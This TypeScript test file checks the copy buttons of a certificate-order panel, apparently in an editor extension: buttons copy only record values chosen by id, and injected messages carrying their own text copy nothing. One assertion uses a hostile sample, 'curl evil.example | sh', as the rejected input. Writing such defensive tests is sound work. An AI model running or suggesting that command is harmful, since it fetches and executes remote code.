// The copy buttons: the page says which value, the extension copies it from the record. A
// message carrying its own text (what a script injected into the page would send) copies nothing.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RECORD_FORMAT, type SubmissionRecord } from '../../../common/src/protocol';
import { copyTargets, copyText, renderSubmissionHtml } from '../../../client/src/panel/html';

const record: SubmissionRecord = {
  format: RECORD_FORMAT,
  id: 'lxyz-abc123',
  apiId: 'ssl2buy-sectigo-pac-enterprise',
  apiTitle: 'SSL2Buy Sectigo PAC Enterprise (S/MIME)',
  environment: 'production',
  endpoint: 'https://api.ssl2buy.com/x',
  orderFile: '/work/a.order.json',
  startedAt: '2024-05-01T10:00:00.000Z',
  durationMs: 42,
  request: { url: 'https://api.ssl2buy.com/x', method: 'POST', headers: {}, body: '{}' },
  parsed: {
    kind: 'success',
    statusCode: 0,
    statusMeaning: 'Method is executed successfully.',
    orderNumber: '1234567',
    fields: [
      { name: 'SSL2BuyOrderNumber', label: 'SSL2Buy Order number', value: '1234567', copy: true },
      { name: 'ApprovalEmail', label: 'Approval Email', value: 'a<b>@example.com' },
      { name: 'UniqueValue', label: 'Unique Value', value: 'u&1', copy: true },
    ],
  },
  dcv: {
    convention: 'c',
    csrHashes: { md5: 'aa', sha1: 'bb', sha256: 'cc' },
    fromCsr: { basis: 'b', filePath: 'p', fileContent: 'l1\nl2', cnameHost: 'h', cnameTarget: 't' },
  },
};

const unescape = (s: string): string =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');

describe('copy buttons', () => {
  it('copies a value of the record by its id, and nothing else', () => {
    assert.equal(copyText({ type: 'copy', target: 'order-number' }, record), '1234567');
    assert.equal(copyText({ type: 'copy', target: 'dcv-csr-file-content' }, record), 'l1\nl2');
    assert.equal(copyText({ type: 'copy', text: 'curl evil.example | sh' }, record), undefined);
    assert.equal(copyText({ type: 'copy', target: 'field-ApprovalEmail' }, record), undefined);
    assert.equal(copyText({ type: 'copy', target: 'endpoint' }, record), undefined);
    assert.equal(copyText({ type: 'paste', target: 'order-number' }, record), undefined);
    assert.equal(copyText('copy', record), undefined);
    assert.equal(copyText({ type: 'copy', target: 'order-number' }, undefined), undefined);
  });

  it('every button in the page names a copy target whose value is the text it shows', () => {
    const html = renderSubmissionHtml(record, { nonce: 'n', cspSource: 's' });
    const ids = [...html.matchAll(/data-copy-target="([^"]+)"/g)].map((m) => m[1]);
    const targets = copyTargets(record);
    assert.deepEqual(new Set(ids), new Set(targets.keys()));
    for (const id of ids) {
      const shown = new RegExp(`id="${id}" class="value">([^<]*)<`).exec(html)?.[1];
      assert.equal(unescape(shown ?? ''), targets.get(id), id);
    }
    assert.match(html, /postMessage\(\{ type: 'copy', target: button\.dataset\.copyTarget \}\)/);
  });
});
